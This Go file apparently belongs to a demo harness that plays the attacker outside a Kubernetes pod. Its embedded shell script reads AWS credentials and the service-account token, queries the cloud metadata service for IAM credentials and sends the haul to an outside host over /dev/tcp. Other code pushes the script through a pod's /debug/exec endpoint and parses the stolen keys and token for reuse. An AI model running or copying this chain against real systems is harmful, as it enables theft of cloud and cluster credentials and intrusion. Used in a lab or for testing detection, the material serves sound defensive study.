package main

import (
	"bufio"
	"context"
	"encoding/json"
	"errors"
	"flag"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"strings"
	"sync"
	"time"
)

// script is what the attacker has the pod's shell do: read what it finds, ask the metadata service, and send it all home.
const script = `loot=/tmp/.loot
cat $HOME/.aws/credentials > $loot
cat /var/run/secrets/kubernetes.io/serviceaccount/token >> $loot
echo >> $loot
exec 3<>/dev/tcp/169.254.169.254/80
printf 'GET /latest/meta-data/iam/security-credentials/ HTTP/1.0\r\n\r\n' >&3
cat <&3 >> $loot
exec 3>&-
cat $loot > /dev/tcp/%s
`

type outsideOptions struct {
	control, stream, beacon, loot string
	lootAddress, target, calls    string
	aws, region, role             string
	kube, kubeCA, namespace       string
}

// outside is the world beyond the pod: the server that gets what is sent, and the attacker who uses it. Its control socket
// takes POST /attack and tells on GET /wire what arrived when.
func outside(ctx context.Context, args []string, stdout io.Writer) error {
	var o outsideOptions
	flags := flag.NewFlagSet("outside", flag.ContinueOnError)
	flags.StringVar(&o.control, "control", "", "`path` of the control socket")
	flags.StringVar(&o.stream, "stream", "", "`address` that takes the pod's long TCP connection")
	flags.StringVar(&o.beacon, "beacon", "", "`address` that takes the pod's datagrams")
	flags.StringVar(&o.loot, "loot", "", "`address` that takes what is stolen")
	flags.StringVar(&o.lootAddress, "loot-address", "", "HOST/PORT of it, as the script names it")
	flags.StringVar(&o.target, "target", "", "`URL` of the pod's server")
	flags.StringVar(&o.calls, "calls", "", "`file` for the attacker's calls, one JSON object a line")
	flags.StringVar(&o.aws, "aws", "", "`URL` of AWS")
	flags.StringVar(&o.region, "region", "us-east-1", "AWS region")
	flags.StringVar(&o.role, "role", "", "`ARN` of the role to assume")
	flags.StringVar(&o.kube, "kube", "", "`URL` of the API server")
	flags.StringVar(&o.kubeCA, "kube-ca", "", "`file` with its certificate authority")
	flags.StringVar(&o.namespace, "namespace", "", "Kubernetes namespace to look at")
	if err := flags.Parse(args); err != nil {
		return err
	}
	calls, err := os.OpenFile(o.calls, os.O_CREATE|os.O_WRONLY|os.O_APPEND, 0o600)
	if err != nil {
		return err
	}
	defer calls.Close()
	w := &world{o: o, log: json.NewEncoder(calls), wire: map[string]*arrivals{"stream": {}, "beacon": {}}}
	return w.run(ctx, stdout)
}

type world struct {
	o    outsideOptions
	wire map[string]*arrivals
	all  sync.WaitGroup

	mu  sync.Mutex
	log *json.Encoder
}

func (w *world) run(ctx context.Context, stdout io.Writer) error {
	ctx, cancel := context.WithCancel(ctx)
	defer w.all.Wait()
	defer cancel()
	datagrams, err := (&net.ListenConfig{}).ListenPacket(ctx, "udp", w.o.beacon)
	if err != nil {
		return fmt.Errorf("listen: %w", err)
	}
	w.all.Go(func() { <-ctx.Done(); _ = datagrams.Close() })
	w.all.Go(func() { w.takeBeacon(datagrams) })
	if err := w.listen(ctx, w.o.stream, w.takeStream); err != nil {
		return err
	}
	if err := w.listen(ctx, w.o.loot, func(c net.Conn) { w.takeLoot(ctx, c) }); err != nil {
		return err
	}
	control, err := (&net.ListenConfig{}).Listen(ctx, "unix", w.o.control)
	if err != nil {
		return fmt.Errorf("listen for control: %w", err)
	}
	mux := http.NewServeMux()
	mux.HandleFunc("POST /attack", w.attack)
	mux.HandleFunc("GET /wire", w.tell)
	server := &http.Server{Handler: mux, ReadHeaderTimeout: 5 * time.Second}
	w.all.Go(func() { <-ctx.Done(); _ = server.Close() })
	if err := ready(stdout, "outside"); err != nil {
		return err
	}
	if err := server.Serve(control); !errors.Is(err, http.ErrServerClosed) {
		return err
	}
	return nil
}

// listen serves each connection until ctx ends.
func (w *world) listen(ctx context.Context, address string, serve func(net.Conn)) error {
	l, err := (&net.ListenConfig{}).Listen(ctx, "tcp", address)
	if err != nil {
		return fmt.Errorf("listen: %w", err)
	}
	w.all.Go(func() { <-ctx.Done(); _ = l.Close() })
	w.all.Go(func() {
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			w.all.Go(func() {
				defer context.AfterFunc(ctx, func() { _ = c.Close() })()
				defer func() { _ = c.Close() }()
				serve(c)
			})
		}
	})
	return nil
}

func (w *world) takeBeacon(c net.PacketConn) {
	buffer := make([]byte, 64)
	for {
		n, _, err := c.ReadFrom(buffer)
		if err != nil {
			return
		}
		w.wire["beacon"].add(string(buffer[:n]))
	}
}

func (w *world) takeStream(c net.Conn) {
	for lines := bufio.NewScanner(c); lines.Scan(); {
		w.wire["stream"].add(lines.Text())
	}
}

// takeLoot reads what the pod's shell sent, and puts it to use.
func (w *world) takeLoot(ctx context.Context, c net.Conn) {
	data, err := io.ReadAll(io.LimitReader(c, 1<<20))
	if err != nil {
		return
	}
	w.note(call{At: time.Now().UTC(), Who: "exfiltration", Call: "receive", OK: true, Code: fmt.Sprintf("%d bytes", len(data))})
	var l loot
	for line := range strings.Lines(string(data)) {
		line = strings.TrimSpace(line)
		name, value, _ := strings.Cut(line, "=")
		switch {
		case strings.TrimSpace(name) == "aws_access_key_id":
			l.keyID = strings.TrimSpace(value)
		case strings.TrimSpace(name) == "aws_secret_access_key":
			l.secret = strings.TrimSpace(value)
		case strings.HasPrefix(line, "eyJ") && strings.Count(line, ".") == 2:
			l.token = line
		}
	}
	w.use(ctx, l)
}

// attack sends the script through the hole.
func (w *world) attack(answer http.ResponseWriter, r *http.Request) {
	body := strings.NewReader(fmt.Sprintf(script, w.o.lootAddress))
	post, err := http.NewRequestWithContext(r.Context(), http.MethodPost, w.o.target+"/debug/exec", body)
	if err == nil {
		var reply *http.Response
		if reply, err = http.DefaultClient.Do(post); err == nil {
			err = reply.Body.Close()
			w.note(call{At: time.Now().UTC(), Who: "attack", Call: "run a shell in the pod", OK: reply.StatusCode == http.StatusAccepted, Code: reply.Status})
		}
	}
	if err != nil {
		http.Error(answer, err.Error(), http.StatusBadGateway)
	}
}

func (w *world) tell(answer http.ResponseWriter, _ *http.Request) {
	out := map[string]report{}
	for name, a := range w.wire {
		out[name] = a.report()
	}
	answer.Header().Set("Content-Type", "application/json")
	_ = json.NewEncoder(answer).Encode(out) // the reader went away: its affair
}

// call is one line of the attacker's log.
type call struct {
	At   time.Time `json:"at"`
	Who  string    `json:"who"`
	Call string    `json:"call"`
	OK   bool      `json:"ok"`
	Code string    `json:"code,omitempty"`
}

func (w *world) note(c call) {
	w.mu.Lock()
	defer w.mu.Unlock()
	_ = w.log.Encode(c) // a full disk ends the demo elsewhere
}

// silence is how long nothing must arrive for it to count as one.
const silence = 250 * time.Millisecond

// arrivals remembers when numbered messages came, and when none did.
type arrivals struct {
	mu          sync.Mutex
	first, last time.Time
	lastNumber  string
	count       int
	gaps        []gap
}

type gap struct {
	From time.Time `json:"from"` // the last arrival before
	To   time.Time `json:"to"`   // the first one after
}

type report struct {
	First      time.Time `json:"first"`
	Last       time.Time `json:"last"`
	LastNumber string    `json:"last_number"`
	Count      int       `json:"count"`
	Gaps       []gap     `json:"gaps"`
}

func (a *arrivals) add(number string) {
	now := time.Now().UTC()
	a.mu.Lock()
	defer a.mu.Unlock()
	if a.first.IsZero() {
		a.first = now
	} else if now.Sub(a.last) > silence && len(a.gaps) < 1000 {
		a.gaps = append(a.gaps, gap{a.last, now})
	}
	a.last, a.lastNumber, a.count = now, strings.TrimSpace(number), a.count+1
}

func (a *arrivals) report() report {
	a.mu.Lock()
	defer a.mu.Unlock()
	return report{a.first, a.last, a.lastNumber, a.count, append([]gap{}, a.gaps...)}
}
